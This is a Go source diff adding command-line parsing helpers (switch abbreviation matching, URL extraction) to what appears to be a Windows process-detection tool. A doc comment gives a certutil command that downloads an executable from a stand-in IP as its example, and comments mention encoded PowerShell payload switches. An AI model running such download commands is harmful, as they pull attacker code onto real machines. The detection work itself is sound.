@@ -19,6 +19,7 @@
 package cmdline
 
 import (
+	"net/url"
 	"os"
 	"path/filepath"
 	"regexp"
@@ -35,8 +36,16 @@ var (
 
 	// driveRegexp is used for determining if the command line start with a valid drive letter based path
 	driveRegexp = regexp.MustCompile(`^[a-zA-Z]:\\`)
+
+	// urlRegexp matches URLs prefixed with the scheme
+	urlRegexp = regexp.MustCompile("(?i)\\b[a-z][a-z0-9+.-]*://[^\\s\"'<>`^|]+")
 )
 
+// switchChars contains the characters that prefix command line switches.
+// Many programs, such as PowerShell, also accept various dash characters
+// which are often used to evade detections of well-known switches.
+const switchChars = "-/\u2013\u2014\u2015"
+
 var sysProcs = map[string]bool{
 	"dwm.exe":         true,
 	"wininit.exe":     true,
@@ -67,6 +76,104 @@ func New(cmdline string) *Cmdline {
 // a single argument in the process command line.
 func Split(cmdline string) []string { return splitRegexp.FindAllString(cmdline, -1) }
 
+// Arg returns the value of the named argument in the command line. The
+// value is either the argument following the switch, as in -enc <payload>,
+// or the value after the colon or equal sign separator, e.g. /out:file.txt
+// or --type=renderer. Names are matched case-insensitively, and the switch
+// prefix characters are interchangeable. Like PowerShell parameters, switches
+// can be abbreviated, so the -EncodedCommand name also matches the -e or -en
+// switches. Aliases are given as alternative names separated by the pipe
+// character, e.g. -EncodedCommand|-ec. Exact matches take precedence over
+// abbreviated switches. Surrounding quotes are removed from the value. If
+// the argument is not present, an empty string is returned.
+func Arg(cmdline, name string) string {
+	args := Split(cmdline)
+	abbrev := -1
+	for i, arg := range args {
+		exact, ok := matchArg(arg, name)
+		if !ok {
+			continue
+		}
+		if exact {
+			return argValue(args, i)
+		}
+		if abbrev < 0 {
+			abbrev = i
+		}
+	}
+	if abbrev >= 0 {
+		return argValue(args, abbrev)
+	}
+	return ""
+}
+
+// matchArg determines whether the command line argument matches any of
+// the pipe-separated names. Switch names are also matched by their
+// abbreviations, in which case the exact return value is false.
+func matchArg(arg, names string) (exact bool, ok bool) {
+	for _, name := range strings.Split(names, "|") {
+		n := strings.TrimLeft(name, switchChars)
+		if n == "" {
+			continue
+		}
+		isSwitch := len(n) != len(name)
+		s := arg
+		if isSwitch {
+			s = strings.TrimLeft(arg, switchChars)
+			if len(s) == len(arg) {
+				continue
+			}
+		}
+		if i := strings.IndexAny(s, ":="); i >= 0 {
+			s = s[:i]
+		}
+		if s == "" {
+			continue
+		}
+		if strings.EqualFold(s, n) {
+			return true, true
+		}
+		if isSwitch && len(s) < len(n) && strings.EqualFold(s, n[:len(s)]) {
+			ok = true
+		}
+	}
+	return false, ok
+}
+
+// argValue returns the value of the argument at the specified index.
+func argValue(args []string, i int) string {
+	arg := strings.TrimLeft(args[i], switchChars)
+	if n := strings.IndexAny(arg, ":="); n >= 0 {
+		return unquote(arg[n+1:])
+	}
+	if i+1 < len(args) {
+		return unquote(args[i+1])
+	}
+	return ""
+}
+
+// URL returns the first URL found in the command line, for example, the URL
+// passed to certutil -urlcache -f http://10.0.0.1:8080/a.exe a.exe. Only URLs
+// with the scheme are recognized. Trailing punctuation is not considered part
+// of the URL. If the command line doesn't contain the URL, nil is returned.
+func URL(cmdline string) *url.URL {
+	for _, s := range urlRegexp.FindAllString(cmdline, -1) {
+		u, err := url.Parse(strings.TrimRight(s, ".,;:)]}"))
+		if err != nil || u.Host == "" {
+			continue
+		}
+		return u
+	}
+	return nil
+}
+
+func unquote(s string) string {
+	if len(s) > 1 && (s[0] == '"' || s[0] == '\'') && s[len(s)-1] == s[0] {
+		return s[1 : len(s)-1]
+	}
+	return s
+}
+
 // ExpandSystemRoot replaces all occurrences of the system root environment variable
 // with its respective value.
 func ExpandSystemRoot(exe string) string {